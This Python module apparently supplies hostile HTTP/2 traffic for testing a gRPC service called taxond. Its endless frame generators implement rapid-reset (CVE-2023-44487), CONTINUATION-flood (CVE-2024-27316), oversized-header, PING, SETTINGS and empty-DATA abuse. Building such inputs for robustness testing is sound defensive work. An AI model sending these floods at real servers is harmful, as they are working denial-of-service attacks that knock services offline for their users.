"""What hostile connections send: each abuse is an endless row of pieces, to be sent one after the other."""

import itertools
import struct

import http2

PREDICT = "/taxond.v1.PredictService/Predict"
ADD_EXAMPLES = "/taxond.v1.DatasetService/AddExamples"
LIST_EXAMPLES = "/taxond.v1.DatasetService/ListExamples"
HEALTH = "/grpc.health.v1.Health/Check"

NO_WINDOW = struct.pack(">HI", http2.INITIAL_WINDOW_SIZE, 0)


def rapid_reset():
    """Calls that are taken back at once (CVE-2023-44487)."""
    for stream in itertools.count(1, 2):
        begun = http2.frame(http2.HEADERS, http2.END_HEADERS, stream, http2.call(PREDICT))
        yield begun + http2.frame(http2.RST_STREAM, 0, stream, struct.pack(">I", http2.CANCEL))


def continuation():
    """Headers that never end (CVE-2024-27316)."""
    yield http2.frame(http2.HEADERS, 0, 1, http2.call(PREDICT))
    for number in itertools.count():
        yield http2.frame(http2.CONTINUATION, 0, 1, http2.header(b"x-%d" % number, b"n" * 100))


def giant_headers():
    """Calls with a megabyte of headers each, in frames as large as may be."""
    note = http2.header(b"x-note", b"n" * 1_000_000)
    for stream in itertools.count(1, 2):
        yield b"".join(headers(stream, http2.call(PREDICT) + note))


def pings():
    """Each wants an answer."""
    for number in itertools.count():
        yield http2.frame(http2.PING, payload=struct.pack(">Q", number))


def pongs():
    """Answers to pings that nobody sent."""
    for number in itertools.count():
        yield http2.frame(http2.PING, http2.ACK, payload=struct.pack(">Q", number))


def settings():
    """Each is to be put into effect, and answered."""
    for number in itertools.count():
        yield http2.frame(http2.SETTINGS, payload=struct.pack(">HI", http2.INITIAL_WINDOW_SIZE, 65535 - number % 2))


def empty_data():
    """A call whose messages have no bytes, and no end."""
    yield http2.frame(http2.HEADERS, http2.END_HEADERS, 1, http2.call(ADD_EXAMPLES))
    while True:
        yield http2.frame(http2.DATA, 0, 1)


def calls(path, body):
    """Whole calls: for a connection without a window, which takes no answer."""
    for stream in itertools.count(1, 2):
        yield whole_call(stream, path, body)


def whole_call(stream, path, body, more=b""):
    """A call with one message, and perhaps more headers."""
    begun = b"".join(headers(stream, http2.call(path) + more))
    return begun + http2.frame(http2.DATA, http2.END_STREAM, stream, http2.message(body))


def headers(stream, block, size=16384):
    """The frames of a block of headers: at most 16 KiB each, as every receiver takes."""
    pieces = [block[i : i + size] for i in range(0, len(block), size)]
    for number, piece in enumerate(pieces):
        flags = http2.END_HEADERS if number == len(pieces) - 1 else 0
        yield http2.frame(http2.CONTINUATION if number else http2.HEADERS, flags, stream, piece)
